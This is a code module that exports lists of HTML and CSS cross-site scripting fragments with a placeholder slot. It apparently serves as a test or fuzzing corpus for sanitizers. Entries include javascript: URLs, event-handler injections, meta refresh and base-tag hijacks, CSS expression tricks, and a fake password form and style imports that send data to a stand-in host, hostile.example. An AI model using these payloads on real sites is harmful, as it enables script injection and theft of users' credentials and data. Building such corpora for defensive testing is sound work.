/** Fragments whose tags reach beyond the text that they stand in. */

export const FRAMES = [
  '<iframe src="javascript:§"></iframe>',
  '<iframe src="javascript:parent.§"></iframe>',
  '<iframe srcdoc="<script>parent.§</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>',
  '<iframe src="https://hostile.example/?§"></iframe>',
  '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location=`//hostile.example/§`</script>"></iframe>',
  '<frameset onload=§><frame src="javascript:§"></frameset>',
  '<object data="javascript:§"></object>',
  '<object type="text/html" data="https://hostile.example/?§"></object>',
  '<object><param name=movie value="javascript:§"></object><img src=x onerror=§>',
  '<embed src="javascript:§">',
  '<applet code="javascript:§" archive="https://hostile.example/x.jar"></applet>',
  '<portal src="javascript:§" onload=§></portal>',
  '<fencedframe src="javascript:§"></fencedframe><img src=x onerror=§>',
  '<video controls><track kind=captions src="https://hostile.example/?§" onerror=§ default></video>',
  '<bgsound src="javascript:§">',
];

export const FORMS = [
  '<form action="javascript:§"><button>go</button></form>',
  '<form action="javascript:§"><input type=submit value=go></form>',
  '<form><button formaction="javascript:§">go</button></form>',
  '<form id=f></form><button form=f formaction="javascript:§">go</button>',
  '<form><input type=image src=x onerror=§ formaction="javascript:§"></form>',
  '<form action="https://hostile.example/?§" method=post><input name=password><button>OK</button></form>',
  '<isindex type=image src=1 onerror=§>',
  '<input type=image src=x onerror=§>',
  '<form onsubmit=§ oninvalid=§><input required><button>go</button></form>',
  '<label for=username onclick=§>x</label>',
];

export const HEAD = [
  '<meta http-equiv=refresh content="0;url=javascript:§">',
  '<meta http-equiv=refresh content="0;url=https://hostile.example/?§">',
  '<meta http-equiv=refresh content="0; url=data:text/html;base64,§64script">',
  '<meta http-equiv=set-cookie content="token=§">',
  '<meta http-equiv=content-security-policy content="script-src *"><script>§</script>',
  '<base href="https://hostile.example/§/"><img src=x onerror=§>',
  '<base href="javascript:/a/-§//"><a href="#">x</a>',
  '<link rel=import href="data:text/html,<script>§</script>">',
  '<link rel=stylesheet href="https://hostile.example/?§">',
  '<link rel=stylesheet href="javascript:§">',
  '<link rel=prefetch href="https://hostile.example/?§" onload=§ onerror=§>',
  '<link rel=modulepreload href="data:text/javascript,§" onload=§>',
  '<head><script>§</script></head>',
  '<html onmouseover=§ onclick=§>x</html>',
  '<title>x</title><body background="javascript:§" onload=§>',
];

export const STYLES = [
  '<p style="width:expression(§)">x</p>',
  '<p style="background:url(javascript:§)">x</p>',
  '<p style="background:url(https://hostile.example/?§)">x</p>',
  '<p style="-moz-binding:url(https://hostile.example/x.xml#§)">x</p>',
  '<p style="behavior:url(https://hostile.example/x.htc?§)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999" onclick=§>x</p>',
  '<style>@import "https://hostile.example/?§";</style>',
  '<style>body{background:url("javascript:§")}</style>',
  '<style>input[value^=a]{background:url(https://hostile.example/?§)}</style><img src=x onerror=§>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=§>x</p>',
  '<p style="wid\\th:exp/**/ression(§)">x</p>',
  '<p style="background-image:\\75rl(\'javascript:§\')">x</p>',
  '<xss style="xss:expr/*XSS*/ession(§)"><img src=x onerror=§></xss>',
];
